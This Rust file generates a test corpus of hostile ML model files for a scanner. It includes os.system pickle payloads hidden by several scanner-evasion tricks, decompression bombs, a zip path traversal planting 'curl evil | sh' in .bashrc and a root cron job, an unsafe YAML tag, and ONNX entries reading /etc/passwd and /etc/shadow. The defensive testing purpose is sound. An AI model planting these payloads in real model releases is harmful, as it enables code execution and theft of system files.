//! The hostile corpus: one tiny release folder per attack under
//! `fixtures/hostile/<case>/`, each built from code so the bytes are
//! reviewable. Regenerate with `cargo run --example gen-hostile`; the test
//! `hostile_fixtures_are_current` (tests/hostile.rs) fails when the checked-in
//! tree differs. `tests/hostile.rs` scans every case with the release binary
//! under an address-space limit and a timeout, and asserts its finding codes.
//!
//! Files are small on purpose: sizes are written as a header claims them,
//! not as real data (a 2^63-element GGUF array is 12 bytes here), and the
//! deflate bombs are small compressed. The whole tree stays well under 1 MB.

#![allow(dead_code)]

use super::generator::{safetensors, write, write_json};
use serde_json::json;
use std::io::{self, Cursor, Read, Write};
use std::path::Path;

/// Writes every case into `out` (created if needed; must hold no old cases).
pub fn generate(out: &Path) -> io::Result<()> {
    for (name, build) in CASES {
        build(&out.join(name))?;
    }
    Ok(())
}

type Build = fn(&Path) -> io::Result<()>;

/// Every case, by folder name. tests/hostile.rs keeps the expected finding
/// codes per name and fails on a case it does not know.
pub const CASES: &[(&str, Build)] = &[
    ("st-header-past-eof", st_header_past_eof),
    ("st-header-claims-200mb", st_header_claims_200mb),
    ("st-header-not-object", st_header_not_object),
    ("st-duplicate-names", st_duplicate_names),
    ("st-metadata-not-string", st_metadata_not_string),
    ("st-offsets-overlap", st_offsets_overlap),
    ("st-offsets-out-of-range", st_offsets_out_of_range),
    ("st-offsets-wrap", st_offsets_wrap),
    ("st-shape-overflow", st_shape_overflow),
    ("st-trailing-polyglot", st_trailing_polyglot),
    ("gguf-tensor-count-2p63", gguf_tensor_count_2p63),
    ("gguf-kv-count-2p63", gguf_kv_count_2p63),
    ("gguf-string-len-2p63", gguf_string_len_2p63),
    ("gguf-array-len-2p63", gguf_array_len_2p63),
    ("gguf-nested-10000", gguf_nested_10000),
    ("gguf-alignment-2p30", gguf_alignment_2p30),
    ("gguf-n-dims-5", gguf_n_dims_5),
    ("gguf-dims-wrap", gguf_dims_wrap),
    ("gguf-offsets-out-of-order", gguf_offsets_out_of_order),
    ("gguf-duplicate-keys", gguf_duplicate_keys),
    ("pkl-memo-stack-global", pkl_memo_stack_global),
    ("pkl-cyclic-memo", pkl_cyclic_memo),
    ("pkl-billion-laughs", pkl_billion_laughs),
    ("pkl-payload-after-broken", pkl_payload_after_broken),
    ("pkl-legacy-second-pickle", pkl_legacy_second_pickle),
    ("pkl-binpersid-storm", pkl_binpersid_storm),
    ("zip-deflate-bomb", zip_deflate_bomb),
    ("zip-bomb-fanout", zip_bomb_fanout),
    ("zip-overlapping-entries", zip_overlapping_entries),
    ("zip-central-dir-lies", zip_central_dir_lies),
    ("zip-corrupt-before-data-pkl", zip_corrupt_before_data_pkl),
    ("zip-path-traversal", zip_path_traversal),
    ("yaml-billion-laughs", yaml_billion_laughs),
    ("yaml-deep-nesting", yaml_deep_nesting),
    ("yaml-tags", yaml_tags),
    ("config-nested-100000", config_nested_100000),
    ("auto-map-outside", auto_map_outside),
    ("onnx-external-outside", onnx_external_outside),
];

// ------------------------------------------------------------ safetensors

/// A safetensors file from a raw header text, `data` bytes after it.
fn st_raw(header: &str, data: usize) -> Vec<u8> {
    let mut out = (header.len() as u64).to_le_bytes().to_vec();
    out.extend_from_slice(header.as_bytes());
    out.resize(out.len() + data, 0);
    out
}

/// The prefix claims 1,000 header bytes; 16 follow.
fn st_header_past_eof(d: &Path) -> io::Result<()> {
    let mut f = 1000u64.to_le_bytes().to_vec();
    f.extend_from_slice(b"{\"w\":{\"dtype\":\"");
    write(d, "model.safetensors", f)
}

/// 200 MB claimed, past the 100 MB cap: a reader that allocates the claim
/// first (`vec![0; n]`) is the classic DoS. 64 bytes follow.
fn st_header_claims_200mb(d: &Path) -> io::Result<()> {
    let mut f = 200_000_000u64.to_le_bytes().to_vec();
    f.extend_from_slice(&[b' '; 64]);
    write(d, "model.safetensors", f)
}

fn st_header_not_object(d: &Path) -> io::Result<()> {
    write(d, "model.safetensors", st_raw("[1, 2, 3]       ", 0))
}

/// JSON lets a key repeat; serde keeps the last, other readers the first.
fn st_duplicate_names(d: &Path) -> io::Result<()> {
    let h = r#"{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}"#;
    write(d, "model.safetensors", st_raw(h, 8))
}

fn st_metadata_not_string(d: &Path) -> io::Result<()> {
    let h = r#"{"__metadata__":{"format":{"nested":[1,2]}},"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}"#;
    write(d, "model.safetensors", st_raw(h, 4))
}

/// Two tensors on the same bytes: many entries on one buffer is the DoS the
/// format forbids overlap for.
fn st_offsets_overlap(d: &Path) -> io::Result<()> {
    let h = r#"{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[2],"data_offsets":[4,12]}}"#;
    write(d, "model.safetensors", st_raw(h, 12))
}

fn st_offsets_out_of_range(d: &Path) -> io::Result<()> {
    let h = r#"{"w":{"dtype":"F32","shape":[1024],"data_offsets":[1000000,1004096]}}"#;
    write(d, "model.safetensors", st_raw(h, 16))
}

/// End before begin, and an end near 2^64 that wraps when a length is added.
fn st_offsets_wrap(d: &Path) -> io::Result<()> {
    let h = r#"{"a":{"dtype":"U8","shape":[4],"data_offsets":[18446744073709551615,3]},"b":{"dtype":"U8","shape":[0],"data_offsets":[4,18446744073709551615]}}"#;
    write(d, "model.safetensors", st_raw(h, 4))
}

/// 2^32 × 2^32 × 2^32 elements: the product overflows u64 (and usize).
fn st_shape_overflow(d: &Path) -> io::Result<()> {
    let h =
        r#"{"w":{"dtype":"F32","shape":[4294967296,4294967296,4294967296],"data_offsets":[0,4]}}"#;
    write(d, "model.safetensors", st_raw(h, 4))
}

/// A valid file with a zip appended: a polyglot other tools open as a zip.
fn st_trailing_polyglot(d: &Path) -> io::Result<()> {
    let mut f = safetensors(&[("w", "F32", &[4])], Some(&[("format", "pt")]));
    f.extend_from_slice(&stored_zip(&[("archive/data.pkl", OS_SYSTEM_PICKLE)]));
    write(d, "model.safetensors", f)
}

// ------------------------------------------------------------------- GGUF

/// Little-endian GGUF v3 writer: only what the cases need.
#[derive(Default)]
struct Gguf(Vec<u8>);

const GGUF_U32: u32 = 4;
const GGUF_STRING: u32 = 8;
const GGUF_ARRAY: u32 = 9;

impl Gguf {
    fn header(tensors: u64, kvs: u64) -> Gguf {
        let mut g = Gguf(b"GGUF".to_vec());
        g.u32(3).u64(tensors).u64(kvs);
        g
    }
    fn u32(&mut self, v: u32) -> &mut Gguf {
        self.0.extend_from_slice(&v.to_le_bytes());
        self
    }
    fn u64(&mut self, v: u64) -> &mut Gguf {
        self.0.extend_from_slice(&v.to_le_bytes());
        self
    }
    fn str(&mut self, s: &str) -> &mut Gguf {
        self.u64(s.len() as u64);
        self.0.extend_from_slice(s.as_bytes());
        self
    }
    fn kv_u32(&mut self, key: &str, v: u32) -> &mut Gguf {
        self.str(key).u32(GGUF_U32).u32(v)
    }
    fn kv_str(&mut self, key: &str, v: &str) -> &mut Gguf {
        self.str(key).u32(GGUF_STRING).str(v)
    }
    /// A tensor info with ggml type F32 (0).
    fn tensor(&mut self, name: &str, dims: &[u64], offset: u64) -> &mut Gguf {
        self.str(name).u32(dims.len() as u32);
        for &d in dims {
            self.u64(d);
        }
        self.u32(0).u64(offset)
    }
    /// Pads to 32 and appends `data` zero bytes.
    fn data(&mut self, data: usize) -> Vec<u8> {
        let mut out = std::mem::take(&mut self.0);
        out.resize(out.len().next_multiple_of(32) + data, 0);
        out
    }
}

const TWO_63: u64 = 1 << 63;

fn gguf_tensor_count_2p63(d: &Path) -> io::Result<()> {
    write(d, "model.gguf", Gguf::header(TWO_63, 0).data(64))
}

fn gguf_kv_count_2p63(d: &Path) -> io::Result<()> {
    write(d, "model.gguf", Gguf::header(0, TWO_63).data(64))
}

fn gguf_string_len_2p63(d: &Path) -> io::Result<()> {
    let mut g = Gguf::header(0, 1);
    g.str("general.name").u32(GGUF_STRING).u64(TWO_63);
    write(d, "model.gguf", g.data(64))
}

fn gguf_array_len_2p63(d: &Path) -> io::Result<()> {
    let mut g = Gguf::header(0, 1);
    g.str("tokenizer.ggml.tokens")
        .u32(GGUF_ARRAY)
        .u32(GGUF_STRING)
        .u64(TWO_63);
    write(d, "model.gguf", g.data(64))
}

/// An array of an array of ... 10,000 levels: a recursive reader without a
/// depth cap overflows its stack (12 bytes a level).
fn gguf_nested_10000(d: &Path) -> io::Result<()> {
    let mut g = Gguf::header(0, 1);
    g.str("x.nested").u32(GGUF_ARRAY);
    for _ in 0..10_000 {
        g.u32(GGUF_ARRAY).u64(1);
    }
    g.u32(GGUF_U32).u64(1).u32(7);
    write(d, "model.gguf", g.data(0))
}

/// 2^30 alignment: padding to it would need a 1 GiB file.
fn gguf_alignment_2p30(d: &Path) -> io::Result<()> {
    let mut g = Gguf::header(1, 1);
    g.kv_u32("general.alignment", 1 << 30).tensor("w", &[4], 0);
    write(d, "model.gguf", g.data(16))
}

fn gguf_n_dims_5(d: &Path) -> io::Result<()> {
    let mut g = Gguf::header(1, 1);
    g.kv_str("general.architecture", "llama")
        .tensor("w", &[1, 1, 1, 1, 1], 0);
    write(d, "model.gguf", g.data(32))
}

/// 2^32 × 2^32 elements: the u64 product wraps to 0.
fn gguf_dims_wrap(d: &Path) -> io::Result<()> {
    let mut g = Gguf::header(1, 1);
    g.kv_str("general.architecture", "llama")
        .tensor("w", &[1 << 32, 1 << 32], 0);
    write(d, "model.gguf", g.data(32))
}

/// The second tensor's data starts before the first's.
fn gguf_offsets_out_of_order(d: &Path) -> io::Result<()> {
    let mut g = Gguf::header(2, 1);
    g.kv_str("general.architecture", "llama")
        .tensor("a", &[8], 32)
        .tensor("b", &[8], 0);
    write(d, "model.gguf", g.data(64))
}

fn gguf_duplicate_keys(d: &Path) -> io::Result<()> {
    let mut g = Gguf::header(0, 2);
    g.kv_str("general.architecture", "llama")
        .kv_str("general.architecture", "gpt2");
    write(d, "model.gguf", g.data(0))
}

// ----------------------------------------------------------------- pickle

/// `os.system("echo pwned")`, protocol 2.
pub const OS_SYSTEM_PICKLE: &[u8] = b"\x80\x02cos\nsystem\nX\x0a\x00\x00\x00echo pwned\x85R.";

/// STACK_GLOBAL whose operands come from the memo, not from the string
/// opcodes right before it: a scanner that only looks back two opcodes
/// misses `os.system`.
fn pkl_memo_stack_global(d: &Path) -> io::Result<()> {
    let mut p = b"\x80\x04".to_vec();
    p.extend_from_slice(b"\x8c\x02os\x94"); // memo 0 = "os"
    p.extend_from_slice(b"\x8c\x06system\x94"); // memo 1 = "system"
    p.extend_from_slice(b"00"); // POP both: the stack is empty again
    p.extend_from_slice(b"\x8c\x04noop\x8c\x04noop00"); // decoys, popped
    p.extend_from_slice(b"h\x00h\x01\x93"); // BINGET 0, BINGET 1, STACK_GLOBAL
    p.extend_from_slice(b"\x8c\x02id\x85R.");
    write(d, "model.pkl", p)
}

/// A list that contains itself, appended 1,000 times: a scanner that
/// follows values recursively never ends.
fn pkl_cyclic_memo(d: &Path) -> io::Result<()> {
    let mut p = b"\x80\x02]\x94".to_vec(); // EMPTY_LIST, MEMOIZE 0
    for _ in 0..1000 {
        p.extend_from_slice(b"h\x00a"); // BINGET 0, APPEND: l.append(l)
    }
    p.push(b'.');
    write(d, "model.pkl", p)
}

/// Billion laughs: each level is a list of ten references to the previous
/// one; 40 levels would expand to 10^40 items if copied.
fn pkl_billion_laughs(d: &Path) -> io::Result<()> {
    let mut p = b"\x80\x02](".to_vec();
    for _ in 0..10 {
        p.extend_from_slice(b"\x8c\x03lol");
    }
    p.extend_from_slice(b"e\x94"); // APPENDS, MEMOIZE 0
    for level in 1..40u8 {
        p.extend_from_slice(b"0](");
        for _ in 0..10 {
            p.extend_from_slice(&[b'h', level - 1]);
        }
        p.extend_from_slice(b"e\x94");
    }
    p.push(b'.');
    write(d, "model.pkl", p)
}

/// nullifAI-style: a stream that breaks (an undefined opcode) and then the
/// payload; a scanner that gives up at the first error misses it.
fn pkl_payload_after_broken(d: &Path) -> io::Result<()> {
    let mut p = b"\x80\x02}q\x00\xff\xfe garbage".to_vec();
    p.extend_from_slice(OS_SYSTEM_PICKLE);
    write(d, "pytorch_model.bin", p)
}

/// Legacy `torch.save`: pickle 1 is the magic number, pickle 2 (normally
/// the protocol version) carries the payload.
fn pkl_legacy_second_pickle(d: &Path) -> io::Result<()> {
    let mut p = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19.".to_vec();
    p.extend_from_slice(OS_SYSTEM_PICKLE);
    p.extend_from_slice(b"\x80\x02}q\x00.");
    write(d, "pytorch_model.bin", p)
}

/// 20,000 BINPERSID ops: each asks the loader's persistent_load; a
/// scanner that records every persistent id unbounded grows without limit.
fn pkl_binpersid_storm(d: &Path) -> io::Result<()> {
    let mut p = b"\x80\x02(".to_vec();
    for i in 0..20_000u32 {
        p.push(b'M'); // BININT2
        p.extend_from_slice(&(i as u16).to_le_bytes());
        p.push(b'Q'); // BINPERSID
    }
    p.extend_from_slice(b"l."); // LIST of them all
    write(d, "pytorch_model.bin", p)
}

// -------------------------------------------------------------------- zip

/// One entry of a hand-built zip: what the local header says, and what the
/// central directory says (they differ in the lying cases).
struct ZipEntry<'a> {
    name: &'a str,
    method: u16,
    data: &'a [u8],
    uncompressed: u32,
}

fn crc32(data: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

fn local_header(e: &ZipEntry<'_>, crc: u32) -> Vec<u8> {
    let mut h = b"PK\x03\x04".to_vec();
    h.extend_from_slice(&20u16.to_le_bytes()); // version needed
    h.extend_from_slice(&0u16.to_le_bytes()); // flags
    h.extend_from_slice(&e.method.to_le_bytes());
    h.extend_from_slice(&[0; 4]); // time, date
    h.extend_from_slice(&crc.to_le_bytes());
    h.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
    h.extend_from_slice(&e.uncompressed.to_le_bytes());
    h.extend_from_slice(&(e.name.len() as u16).to_le_bytes());
    h.extend_from_slice(&0u16.to_le_bytes()); // extra
    h.extend_from_slice(e.name.as_bytes());
    h
}

/// A central directory record for `e` whose local header is at `offset`.
fn central_record(e: &ZipEntry<'_>, crc: u32, offset: u32) -> Vec<u8> {
    let mut h = b"PK\x01\x02".to_vec();
    h.extend_from_slice(&20u16.to_le_bytes()); // made by
    h.extend_from_slice(&20u16.to_le_bytes()); // needed
    h.extend_from_slice(&0u16.to_le_bytes());
    h.extend_from_slice(&e.method.to_le_bytes());
    h.extend_from_slice(&[0; 4]);
    h.extend_from_slice(&crc.to_le_bytes());
    h.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
    h.extend_from_slice(&e.uncompressed.to_le_bytes());
    h.extend_from_slice(&(e.name.len() as u16).to_le_bytes());
    h.extend_from_slice(&[0; 6]); // extra and comment lengths, disk
    h.extend_from_slice(&[0; 6]); // internal and external attributes
    h.extend_from_slice(&offset.to_le_bytes());
    h.extend_from_slice(e.name.as_bytes());
    h
}

fn end_of_central_dir(records: u16, cd_size: u32, cd_offset: u32) -> Vec<u8> {
    let mut h = b"PK\x05\x06".to_vec();
    h.extend_from_slice(&[0; 4]);
    h.extend_from_slice(&records.to_le_bytes());
    h.extend_from_slice(&records.to_le_bytes());
    h.extend_from_slice(&cd_size.to_le_bytes());
    h.extend_from_slice(&cd_offset.to_le_bytes());
    h.extend_from_slice(&0u16.to_le_bytes());
    h
}

/// An honest zip of `entries`, each local header followed by its data and
/// listed once in the central directory.
fn zip(entries: &[ZipEntry<'_>]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    for e in entries {
        let crc = crc32(e.data);
        central.extend(central_record(e, crc, out.len() as u32));
        out.extend(local_header(e, crc));
        out.extend_from_slice(e.data);
    }
    let at = out.len() as u32;
    out.extend_from_slice(&central);
    out.extend(end_of_central_dir(
        entries.len() as u16,
        central.len() as u32,
        at,
    ));
    out
}

fn stored<'a>(name: &'a str, data: &'a [u8]) -> ZipEntry<'a> {
    ZipEntry {
        name,
        method: 0,
        data,
        uncompressed: data.len() as u32,
    }
}

fn stored_zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let e: Vec<ZipEntry<'_>> = entries.iter().map(|(n, d)| stored(n, d)).collect();
    zip(&e)
}

/// `n` zero bytes deflated (about n/1000 bytes), taken raw from an archive
/// the zip crate writes.
fn deflated_zeros(n: usize) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    w.start_file("z", options).unwrap();
    let chunk = vec![0u8; 1 << 20];
    let mut left = n;
    while left > 0 {
        let k = left.min(chunk.len());
        w.write_all(&chunk[..k]).unwrap();
        left -= k;
    }
    let bytes = w.finish().unwrap().into_inner();
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut raw = Vec::new();
    archive
        .by_index_raw(0)
        .unwrap()
        .read_to_end(&mut raw)
        .unwrap();
    raw
}

/// The torch.save layout around one storage: `data.pkl` (an empty dict:
/// the data entry is what is hostile), `data/0` and `version`.
const EMPTY_DICT_PICKLE: &[u8] = b"\x80\x02}q\x00.";

/// `archive/data/0` deflated: 32 MiB of zeros in ~32 KB. torch.save never
/// compresses, so the method alone is an anomaly; the reader must not
/// inflate the whole claim.
fn zip_deflate_bomb(d: &Path) -> io::Result<()> {
    let bomb = deflated_zeros(32 << 20);
    let f = zip(&[
        stored("archive/data.pkl", EMPTY_DICT_PICKLE),
        ZipEntry {
            name: "archive/data/0",
            method: 8,
            data: &bomb,
            uncompressed: 32 << 20,
        },
        stored("archive/version", b"3\n"),
    ]);
    write(d, "pytorch_model.bin", f)
}

/// One deflated `.pkl` entry inflating to 64 MiB (the per-entry cap), and a
/// central directory that lists it 1,000 times under different names: each
/// listing is a fresh 64 MiB inflate unless the reader bounds the archive
/// as a whole, not just each entry.
fn zip_bomb_fanout(d: &Path) -> io::Result<()> {
    let bomb = deflated_zeros(64 << 20);
    let entry = ZipEntry {
        name: "archive/x.pkl",
        method: 8,
        data: &bomb,
        uncompressed: 64 << 20,
    };
    let crc = crc32(&vec![0u8; 64 << 20]);
    let mut out = local_header(&entry, crc);
    out.extend_from_slice(&bomb);
    let data_pkl = stored("archive/data.pkl", EMPTY_DICT_PICKLE);
    let data_pkl_at = out.len() as u32;
    out.extend(local_header(&data_pkl, crc32(EMPTY_DICT_PICKLE)));
    out.extend_from_slice(EMPTY_DICT_PICKLE);
    let mut central = central_record(&data_pkl, crc32(EMPTY_DICT_PICKLE), data_pkl_at);
    const FANOUT: u16 = 1000;
    let names: Vec<String> = (0..FANOUT).map(|i| format!("archive/x{i}.pkl")).collect();
    for name in &names {
        let e = ZipEntry {
            name,
            method: 8,
            data: &bomb,
            uncompressed: 64 << 20,
        };
        central.extend(central_record(&e, crc, 0));
    }
    let at = out.len() as u32;
    out.extend_from_slice(&central);
    out.extend(end_of_central_dir(FANOUT + 1, central.len() as u32, at));
    write(d, "pytorch_model.bin", out)
}

/// Two central records whose spans overlap: `data/0` starts inside
/// `data.pkl`'s data, so one byte range is two files.
fn zip_overlapping_entries(d: &Path) -> io::Result<()> {
    let pkl = stored("archive/data.pkl", OS_SYSTEM_PICKLE);
    let mut out = local_header(&pkl, crc32(OS_SYSTEM_PICKLE));
    out.extend_from_slice(OS_SYSTEM_PICKLE);
    let mut central = central_record(&pkl, crc32(OS_SYSTEM_PICKLE), 0);
    // `archive/data/0` claims the whole file from byte 0 on.
    let whole = ZipEntry {
        name: "archive/data/0",
        method: 0,
        data: &out.clone(),
        uncompressed: out.len() as u32,
    };
    central.extend(central_record(&whole, crc32(&out), 0));
    let at = out.len() as u32;
    out.extend_from_slice(&central);
    out.extend(end_of_central_dir(2, central.len() as u32, at));
    write(d, "pytorch_model.bin", out)
}

/// The central directory lists a harmless `archive/data.pkl` while the
/// local header at that offset is `archive/evil.pkl` carrying the payload;
/// a second local entry is missing from the directory altogether.
fn zip_central_dir_lies(d: &Path) -> io::Result<()> {
    let evil = stored("archive/evil.pkl", OS_SYSTEM_PICKLE);
    let hidden = stored("archive/hidden.pkl", OS_SYSTEM_PICKLE);
    let mut out = local_header(&evil, crc32(OS_SYSTEM_PICKLE));
    out.extend_from_slice(OS_SYSTEM_PICKLE);
    out.extend(local_header(&hidden, crc32(OS_SYSTEM_PICKLE)));
    out.extend_from_slice(OS_SYSTEM_PICKLE);
    let claimed = stored("archive/data.pkl", OS_SYSTEM_PICKLE);
    let central = central_record(&claimed, crc32(OS_SYSTEM_PICKLE), 0);
    let at = out.len() as u32;
    out.extend_from_slice(&central);
    out.extend(end_of_central_dir(1, central.len() as u32, at));
    write(d, "pytorch_model.bin", out)
}

/// A local header whose method is unknown and sizes run past the end comes
/// first, so a strict reader rejects the archive and a lazy scanner stops
/// there; torch's reader seeks by name and still loads `data.pkl`.
fn zip_corrupt_before_data_pkl(d: &Path) -> io::Result<()> {
    let mut out = b"PK\x03\x04\x14\x00\x00\x00\x63\x00".to_vec(); // method 99
    out.extend_from_slice(&[0; 4]);
    out.extend_from_slice(&[0xff; 12]); // crc, sizes: 4 GiB
    out.extend_from_slice(&6u16.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out.extend_from_slice(b"broken");
    out.extend_from_slice(b"\x00\x01\x02");
    let pkl = stored("archive/data.pkl", OS_SYSTEM_PICKLE);
    out.extend(local_header(&pkl, crc32(OS_SYSTEM_PICKLE)));
    out.extend_from_slice(OS_SYSTEM_PICKLE);
    // No central directory at all: it was "lost".
    write(d, "pytorch_model.bin", out)
}

fn zip_path_traversal(d: &Path) -> io::Result<()> {
    let f = stored_zip(&[
        ("archive/data.pkl", EMPTY_DICT_PICKLE),
        ("archive/../../../../home/user/.bashrc", b"curl evil | sh\n"),
        ("/etc/cron.d/x", b"* * * * * root id\n"),
    ]);
    write(d, "pytorch_model.bin", f)
}

// ------------------------------------------------------------ YAML, JSON

fn card(front_matter: &str) -> String {
    format!("---\n{front_matter}---\n# hostile card\n")
}

/// Nine levels of nine aliases each: 9^9 (387 million) strings if expanded.
fn yaml_billion_laughs(d: &Path) -> io::Result<()> {
    let mut fm =
        String::from("license: mit\na0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for i in 1..10 {
        let refs = vec![format!("*a{}", i - 1); 9].join(", ");
        fm.push_str(&format!("a{i}: &a{i} [{refs}]\n"));
    }
    fm.push_str("tags: *a9\n");
    write(d, "README.md", card(&fm))
}

/// 10,000 nested flow sequences and 400 nested block mappings (indentation
/// grows quadratically, so 400 keeps the file at 80 KB).
fn yaml_deep_nesting(d: &Path) -> io::Result<()> {
    let mut fm = String::from("license: mit\ndatasets: ");
    fm.push_str(&"[".repeat(10_000));
    fm.push_str(&"]".repeat(10_000));
    fm.push_str("\nextra:\n");
    for depth in 1..400 {
        fm.push_str(&" ".repeat(depth));
        fm.push_str("k:\n");
    }
    write(d, "README.md", card(&fm))
}

/// Python-object tags (PyYAML's unsafe loader runs them) and custom tags on
/// the fields the card parser reads.
fn yaml_tags(d: &Path) -> io::Result<()> {
    let fm = "license: !!python/object/apply:os.system [\"id\"]\n\
              datasets: !custom [a, b]\n\
              base_model: !!binary aGVsbG8=\n\
              tags: !!set {a, b}\n";
    write(d, "README.md", card(fm))
}

/// `[[[[...]]]]` 100,000 deep: a recursive JSON reader without a depth cap
/// overflows its stack.
fn config_nested_100000(d: &Path) -> io::Result<()> {
    let mut text = "[".repeat(100_000);
    text.push_str(&"]".repeat(100_000));
    write(d, "config.json", text)
}

/// `auto_map` naming modules by file paths: an absolute one (transformers
/// joins it to the repo folder, which yields the absolute path), one that
/// climbs out, and a Windows-style one. Cross-repository references are
/// covered by `fixtures/remote-code`.
fn auto_map_outside(d: &Path) -> io::Result<()> {
    write_json(
        d,
        "config.json",
        &json!({
            "model_type": "llama",
            "architectures": ["LlamaForCausalLM"],
            "auto_map": {
                "AutoConfig": "org/repo--..\\..\\configuration_x.XConfig",
                "AutoModel": "../../../tmp/modeling_x.XModel",
                "AutoModelForCausalLM": "/abs/path/modeling_x.XModel"
            }
        }),
    )
}

// ------------------------------------------------------------------- ONNX

fn varint(mut v: u64, out: &mut Vec<u8>) {
    loop {
        let b = (v & 0x7f) as u8;
        v >>= 7;
        if v == 0 {
            out.push(b);
            return;
        }
        out.push(b | 0x80);
    }
}

fn pb_bytes(field: u64, bytes: &[u8], out: &mut Vec<u8>) {
    varint(field << 3 | 2, out);
    varint(bytes.len() as u64, out);
    out.extend_from_slice(bytes);
}

fn pb_varint(field: u64, v: u64, out: &mut Vec<u8>) {
    varint(field << 3, out);
    varint(v, out);
}

/// A TensorProto whose data lives in an external file at `location`.
fn external_tensor(name: &str, location: &str) -> Vec<u8> {
    let mut t = Vec::new();
    pb_varint(1, 4, &mut t); // dims: [4]
    pb_varint(2, 1, &mut t); // data_type FLOAT
    pb_bytes(8, name.as_bytes(), &mut t);
    let mut entry = Vec::new();
    pb_bytes(1, b"location", &mut entry);
    pb_bytes(2, location.as_bytes(), &mut entry);
    pb_bytes(13, &entry, &mut t); // external_data
    pb_varint(14, 1, &mut t); // data_location EXTERNAL
    t
}

/// Two initializers whose external data is `../../../etc/passwd` and
/// `/etc/shadow`: onnx.load would read them (CVE-2026-34447).
fn onnx_external_outside(d: &Path) -> io::Result<()> {
    let mut graph = Vec::new();
    pb_bytes(2, b"g", &mut graph); // name
    pb_bytes(5, &external_tensor("w", "../../../etc/passwd"), &mut graph);
    pb_bytes(5, &external_tensor("b", "/etc/shadow"), &mut graph);
    let mut model = Vec::new();
    pb_varint(1, 8, &mut model); // ir_version
    pb_bytes(2, b"hostile", &mut model); // producer_name
    let mut opset = Vec::new();
    pb_varint(2, 17, &mut opset);
    pb_bytes(8, &opset, &mut model); // opset_import
    pb_bytes(7, &graph, &mut model);
    write(d, "model.onnx", model)
}
